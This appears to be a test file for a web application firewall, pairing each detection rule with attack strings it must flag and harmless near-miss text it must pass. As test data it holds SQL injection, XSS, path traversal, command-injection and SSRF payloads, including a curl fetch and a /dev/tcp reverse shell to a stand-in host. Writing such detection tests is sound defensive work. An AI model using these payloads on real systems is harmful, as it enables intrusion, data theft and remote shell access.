/* oxlint-disable no-script-url -- what attackers type, never followed */

import { afterAll, expect, test } from 'vitest';
import { loadWaf, type Waf, type WafAddresses } from '../waf.ts';
import { RULESET } from './ruleset.ts';

const typed = (value: string): WafAddresses => ({ 'server.request.query': { q: [value] } });
const body = (value: string): WafAddresses => ({ 'server.request.body': { note: { text: value } } });
const uri = (value: string): WafAddresses => ({ 'server.request.uri.raw': value });
const agent = (value: string): WafAddresses => ({
  'server.request.headers.no_cookies': { 'user-agent': value },
});
/** A dangerous call beside the input that it was made of. */
const call = (address: string, argument: string, input: string): WafAddresses => ({
  ...typed(input),
  [address]: argument,
  ...(address === 'server.db.statement' && { 'server.db.system': 'postgresql' }),
});
const shell = (input: string) => call('server.sys.shell.cmd', `ping -c 1 ${input}`, input);
const file = (input: string) => call('server.io.fs.file', `/srv/shop/manuals/${input}`, input);
const statement = (input: string) =>
  call('server.db.statement', `SELECT id, total FROM invoices WHERE customer = $1 ORDER BY ${input}`, input);
const outgoing = (input: string) => call('server.io.net.url', input, input);

interface RuleTable {
  readonly hits: readonly WafAddresses[];
  readonly misses: readonly WafAddresses[];
}

/** Each rule is tried alone, since the engine reports one rule a type and another would hide it. */
const TABLES: Readonly<Record<string, RuleTable>> = {
  'sw-sqli-001': {
    hits: [
      typed("' OR '1'='1"),
      typed("1' OR 1=1 --"),
      typed("admin'--"),
      body("x' AND 1=(SELECT COUNT(*) FROM users) --"),
      typed('1 UNION SELECT username, password FROM users'),
    ],
    misses: [
      typed("O'Brien"),
      typed('select a gift'),
      typed("rock 'n' roll"),
      typed('union jack mug'),
      body("It's the children's favourite, 5 or 6 of them"),
      typed('drop earrings'),
    ],
  },
  'sw-sqli-002': {
    hits: [
      typed("x' UNION SELECT null, version() --"),
      typed('1 union all select 1,2,3'),
      typed('1/**/union/**/select/**/card_number from cards'),
      typed("' union select email from customers --"),
    ],
    misses: [
      typed('student union select committee'),
      typed('union jack, select colours'),
      typed('select from our union range'),
      typed('reunion selection'),
    ],
  },
  'sw-sqli-003': {
    hits: [
      typed("1'; DROP TABLE orders --"),
      typed('1 AND pg_sleep(5)'),
      typed("'; WAITFOR DELAY '0:0:5' --"),
      typed('benchmark(5000000,sha1(1))'),
    ],
    misses: [
      typed('table; drop leaf'),
      typed('sleep (cotton) mask'),
      typed('bench, mark II'),
      body('Please wait for delay notices; drop the table off at the back'),
    ],
  },
  'sw-xss-001': {
    hits: [
      typed('<script>alert(1)</script>'),
      body('<img src=x onerror=alert(1)>'),
      typed('"><svg/onload=alert(1)>'),
    ],
    misses: [typed('C++ & <3'), typed('size < 40 and > 30'), body('I <3 this mug'), typed('5 > 3')],
  },
  'sw-xss-002': {
    hits: [
      typed('<ScRiPt src=//198.51.100.9/x.js>'),
      body('<details open ontoggle=fetch(1)>'),
      typed('javascript:alert(document.cookie)'),
      body('<a href="javascript:steal()">gift</a>'),
      typed('<iframe src=//198.51.100.9>'),
    ],
    misses: [
      typed('javascript: the good parts'),
      typed('book about javascript'),
      typed('script font poster'),
      body('The <b>best</b> mug on = off'),
      typed('once=more'),
    ],
  },
  'sw-lfi-001': {
    hits: [
      typed('../../../../etc/hosts'),
      uri('/images/..%2f..%2f..%2fetc%2fpasswd'),
      typed('..\\..\\windows\\system.ini'),
      uri('/files/%2e%2e/%2e%2e/secret'),
      uri('/manuals?name=..%252f..%252fetc'),
    ],
    misses: [
      typed('v1..v2/changes'),
      uri('/docs/wait.../what'),
      typed('kettle..manual.pdf'),
      uri('/docs/.well-known/security.txt'),
      typed('and so on ... / etc'),
    ],
  },
  'sw-lfi-002': {
    hits: [
      typed('/etc/passwd'),
      typed('file=/PROC/self/environ'),
      uri('/x?f=/etc/shadow'),
      typed('C:\\Windows\\win.ini'),
    ],
    misses: [typed('etc'), typed('passwd reset'), uri('/docs/etcetera/password'), typed('windows cleaner')],
  },
  'sw-cmdi-001': {
    hits: [
      typed('127.0.0.1; cat /etc/hosts'),
      typed('example.com | id'),
      typed('x && curl http://198.51.100.9/p.sh'),
      typed('`whoami`'),
      typed('$(uname -a)'),
      typed('a;sleep 5'),
    ],
    misses: [
      typed('dog & cat beds'),
      typed('tea | coffee'),
      body('I have a dog; cat loves it too'),
      typed('salt && pepper'),
      typed('price $(approx)'),
      body('Two sizes; head and tail are separate'),
    ],
  },
  'sw-cmdi-002': {
    hits: [typed('x;cat${IFS}f'), typed('/bin/sh -c id'), typed('bash -i >& /dev/tcp/198.51.100.9/4444')],
    misses: [typed('bin bags'), typed('ifs and buts'), typed('sheet /bin'), typed('dev board')],
  },
  'sw-ssrf-001': {
    hits: [
      body('http://169.254.169.254/latest/meta-data/'),
      body('http://localhost:8080/admin'),
      body('https://user@127.0.0.1/'),
      body('http://2130706433/'),
      body('http://[::1]:9200/_cat'),
      body('http://10.0.0.5/'),
      body('http://metadata.google.internal/computeMetadata/v1/'),
    ],
    misses: [
      body('https://hooks.example.com/orders'),
      body('https://localhost.example.com/hook'),
      body('https://example.com/?next=http://127.0.0.1'),
      body('https://110.0.0.5.example.net/'),
      body('the localhost guide'),
    ],
  },
  'sw-ssrf-002': {
    hits: [
      body('gopher://198.51.100.9:6379/_INFO'),
      body('file:///etc/hosts'),
      body('dict://198.51.100.9:11211/stat'),
    ],
    misses: [
      body('https://example.com/file://x'),
      body('filed: 3'),
      body('dictionary'),
      body('https://files.example.com/'),
    ],
  },
  'sw-tool-001': {
    hits: [agent('sqlmap/1.8.4#stable (https://sqlmap.org)'), agent('Mozilla/4.0 (Hydra)')],
    misses: [agent('Mozilla/5.0 (X11; Linux x86_64)'), agent('HydraBrowser-Shop/2.0'), agent('curl/8.9.1')],
  },
  'sw-scan-001': {
    hits: [agent('Mozilla/5.00 (Nikto/2.5.0)'), agent('Nuclei - Open-source project'), agent('gobuster/3.6')],
    misses: [agent('Mozilla/5.0 (Macintosh)'), agent('acme-uptime/2'), agent('Nikton Camera App/1.0')],
  },
  'sw-scan-002': {
    hits: [
      uri('/.env'),
      uri('/.git/config'),
      uri('/wp-login.php?x=1'),
      uri('/actuator/env'),
      uri('/backup.sql'),
    ],
    misses: [
      uri('/docs/.env-files'),
      uri('/environment'),
      uri('/docs/backup.sql.html'),
      uri('/products/git-mug'),
    ],
  },
  'sw-call-001': {
    hits: [file('../../../etc/passwd'), file('../config.json')],
    misses: [file('kettle.pdf'), file('2024/kettle..v2.pdf')],
  },
  'sw-call-002': {
    hits: [shell('x; cat /etc/passwd'), shell('127.0.0.1|id')],
    misses: [shell('status.example.com'), shell('192.0.2.10')],
  },
  'sw-call-003': {
    hits: [statement('date; DROP TABLE invoices'), statement('(SELECT CASE WHEN 1=1 THEN 1 ELSE 2 END)')],
    misses: [statement('date'), statement('total')],
  },
  'sw-call-004': {
    hits: [outgoing('http://169.254.169.254/'), outgoing('http://127.1/')],
    misses: [outgoing('https://hooks.example.com/orders'), outgoing('https://198.51.100.9/')],
  },
  'sw-login-success': {
    hits: [{ 'server.business_logic.users.login.success': null }],
    misses: [{ 'server.business_logic.users.login.failure': null }],
  },
  'sw-login-failure': {
    hits: [{ 'server.business_logic.users.login.failure': null }],
    misses: [{ 'server.business_logic.users.login.success': null }],
  },
};

const wafs = new Map<string, Waf>();
afterAll(() => wafs.forEach((waf) => waf.close()));

async function wafOfRule(id: string): Promise<Waf> {
  const known = wafs.get(id);
  if (known !== undefined) return known;
  const load = await loadWaf({
    ruleset: { ...RULESET, rules: RULESET.rules.filter((rule) => rule.id === id) },
  });
  if (!load.ok) throw new Error(JSON.stringify(load.refusal));
  wafs.set(id, load.waf);
  return load.waf;
}

async function isHit(id: string, addresses: WafAddresses): Promise<boolean> {
  const request = (await wafOfRule(id)).startRequest(0);
  const { activities } = request.inspect(addresses);
  request.end();
  return activities.length > 0;
}

const rows = (part: keyof RuleTable) =>
  Object.entries(TABLES).flatMap(([id, table]) =>
    table[part].map((addresses): [string, string, WafAddresses] => [
      id,
      JSON.stringify(addresses),
      addresses,
    ]),
  );

test.each(rows('hits'))('%s finds %s', async (id, _text, addresses) => {
  expect(await isHit(id, addresses)).toBe(true);
});

test.each(rows('misses'))('%s lets %s pass', async (id, _text, addresses) => {
  expect(await isHit(id, addresses)).toBe(false);
});

test('each rule but those that read the denylist has a table of hits and near misses', () => {
  const ids = RULESET.rules.map((rule) => rule.id).filter((id) => !id.startsWith('blk-'));
  expect(Object.keys(TABLES).toSorted()).toEqual(ids.toSorted());
});

test('rule ids are unique', () => {
  expect(new Set(RULESET.rules.map((rule) => rule.id)).size).toBe(RULESET.rules.length);
});
